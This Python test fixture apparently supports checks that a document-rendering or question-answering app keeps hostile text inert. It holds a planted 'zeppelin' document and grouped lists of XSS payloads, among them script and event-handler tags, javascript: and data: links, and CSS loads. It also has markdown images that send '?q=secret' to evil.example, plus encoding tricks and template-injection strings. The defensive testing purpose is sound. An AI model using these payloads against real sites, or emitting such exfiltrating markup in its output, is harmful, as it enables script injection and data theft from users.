"""A document full of what must stay text, and the known ways in which text becomes markup, script or a request."""

from __future__ import annotations

HOSTILE_FILE = "zeppelin.txt"
HOSTILE_QUESTION = "Who flies the zeppelin?"
HOSTILE_TEXT = """\
Quarterly zeppelin review <script>document.title = "owned"</script>

Who flies the zeppelin?

The zeppelin is flown by <img src=x onerror=alert(1)> the captain. \
The zeppelin is painted by ![leak](http://evil.example/leak.png?q=secret) the crew. \
The zeppelin belongs to [the board](javascript:alert(2)) and to <svg onload=alert(3)> nobody else.

The zeppelin lands on Fridays, says <a href="http://evil.example">the board</a> in :red[red] and $x^2$ :smile:.

<iframe src="http://evil.example/frame"></iframe> <style>* { display: none }</style> <meta http-equiv=refresh \
content="0;url=http://evil.example"> is how the zeppelin crew signs its letters.
"""
PAYLOADS = ("<img src=x onerror=alert(1)>", "![leak](http://evil.example/leak.png?q=secret)", "<svg onload=alert(3)>")
HOSTILE_WORDS = "<img src=x onerror=alert(9)> ![q](http://evil.example/q.png) **who** <script>alert(8)</script> :smile:"

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(2)</script\x0c>",
    "</script><script>alert(3)</script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(5)>'>",
    "<template><script>alert(6)</script></template>",
    "<script type=module>import('//evil.example/m.js')</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(10)>",
    "<img/src=x/onerror=alert(11)>",
    '"><img src=x onerror=alert(12)>',
    "'><img src=x onerror='alert(13)'>",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>x</details>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<audio src=x onerror=alert(18)>",
    "<marquee onstart=alert(19)>x</marquee>",
    "<div onpointerover=alert(20) style=position:fixed;inset:0>x</div>",
    "<select autofocus onfocus=alert(21)>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(22)>",
    "<img src=x onerror=&#97;lert(23)>",
    "<img src=x onerror\x00=alert(24)>",
    "<img src=x onerror=alert`25`>",
)
FRAMES = (
    "<svg onload=alert(30)>",
    "<svg><script>alert(31)</script></svg>",
    "<svg><animate onbegin=alert(32) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(33)><text y=9>x</text></a></svg>",
    "<svg><image href=http://evil.example/s.png></svg>",
    "<svg><use href=http://evil.example/u.svg#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(34)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(35)></iframe>",
    "<iframe srcdoc='<script>alert(36)</script>'></iframe>",
    "<iframe src=http://evil.example/f></iframe>",
    "<object data=http://evil.example/o></object>",
    "<embed src=http://evil.example/e>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/l.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><button autofocus>x</button></form>",
    "<isindex action=javascript:alert(37)>",
)
ADDRESSES = (
    "[x](javascript:alert(40))",
    "[x](JaVaScRiPt:alert(41))",
    "[x](java\tscript:alert(42))",
    "[x](&#106;avascript:alert(43))",
    "[x](javascript&colon;alert(44))",
    "[x](vbscript:msgbox(45))",
    "[x](data:text/html,<script>alert(46)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nyk8L3NjcmlwdD4=)",
    "<javascript:alert(48)>",
    "<a href=javascript:alert(49)>x</a>",
    "<a href='data:text/html,<script>alert(50)</script>'>x</a>",
    "[x](//evil.example/r)",
    "[x]: javascript:alert(51)",
)
IMAGES = (
    "![x](http://evil.example/1.png?q=secret)",
    "![x](https://evil.example/2.png)",
    "![x](//evil.example/3.png)",
    "![x](<http://evil.example/4.png>)",
    "![x][leak]\n\n[leak]: http://evil.example/5.png",
    "![leak]\n\n[leak]: <http://evil.example/6.png> 'title'",
    "[![x](http://evil.example/7.png)](http://evil.example/8)",
    "![x](http://evil.example/9.png 'a\" onerror=alert(60) b=\"')",
    '![" onerror="alert(61)](x)',
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(62)'/>)",
    "<img src=http://evil.example/10.png>",
    "<img srcset='http://evil.example/11.png 1x'>",
    "<picture><source srcset=http://evil.example/12.png><img></picture>",
    "<video poster=http://evil.example/13.png></video>",
    "<table background=http://evil.example/14.png><td>x</table>",
    "<http://evil.example/15>",
    "http://evil.example/16 www.evil.example mail@evil.example",
    "[^1]\n\n[^1]: ![x](http://evil.example/17.png)",
)
STYLES = (
    "<style>@import 'http://evil.example/1.css';</style>",
    "<style>*{background:url(http://evil.example/2.png)}</style>",
    "<p style=\"background:url('http://evil.example/3.png')\">x</p>",
    "<p style='background:u\\72l(http://evil.example/4.png)'>x</p>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/5.woff)}*{font-family:x}</style>",
    "<p style=width:expression(alert(70))>x</p>",
    "<xss style=list-style-image:url(http://evil.example/6.png)>x</xss>",
)
ENCODINGS = (
    "&lt;img src=x onerror=alert(80)&gt;",
    "&#60;img src=x onerror=alert(81)&#62;",
    "&amp;lt;script&amp;gt;alert(82)&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror=alert(83)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(84)%3E",
    "\uff1cimg src=x onerror=alert(85)\uff1e",
    "<\u200bimg src=x onerror=alert(86)>",
    "<img\u00a0src=x onerror=alert(87)>",
    "\u202e>)88(trela=rorreno x=crs gmi<",
    "<img src=x one\u200drror=alert(89)>",
    "\ufeff<script>alert(90)</script>",
    "<!--><img src=x onerror=alert(91)>-->",
    "<![CDATA[><img src=x onerror=alert(92)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(93)</x:script>",
)
WORDS = (
    "`<img src=x onerror=alert(100)>`",
    "```html\n<script>alert(101)</script>\n```",
    "    <script>alert(102)</script>",
    "$\\href{javascript:alert(103)}{x}$ $$\\includegraphics{http://evil.example/t.png}$$",
    "$\\htmlData{x=<img src=x onerror=alert(104)>}{y}$ $\\url{javascript:alert(105)}$",
    ":material/home: :red[x] :blue-background[x] :smile: :small[x] <br> -> <-",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "| a |\n|---|\n| <img src=x onerror=alert(106)> |",
    "# <img src=x onerror=alert(107)>\n\n- [ ] <svg onload=alert(108)>",
    '{"html": "<img src=x onerror=alert(109)>", "__proto__": {"x": 1}}',
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(110)//'>",
)
CLASSES: dict[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "frames": FRAMES,
    "addresses": ADDRESSES,
    "images": IMAGES,
    "styles": STYLES,
    "encodings": ENCODINGS,
    "words": WORDS,
}
"""Written for these tests, one or more of every kind that lists of such texts have."""
EVERY = tuple(payload for payloads in CLASSES.values() for payload in payloads)


def document_of(payloads: tuple[str, ...]) -> str:
    """A document with a sentence on the airship around each."""
    lines = [f"The airship {number} is flown by {payload} the crew." for number, payload in enumerate(payloads)]
    return "# Who flies the airship? <img src=x onerror=alert(200)>\n\n" + "\n\n".join(lines) + "\n"
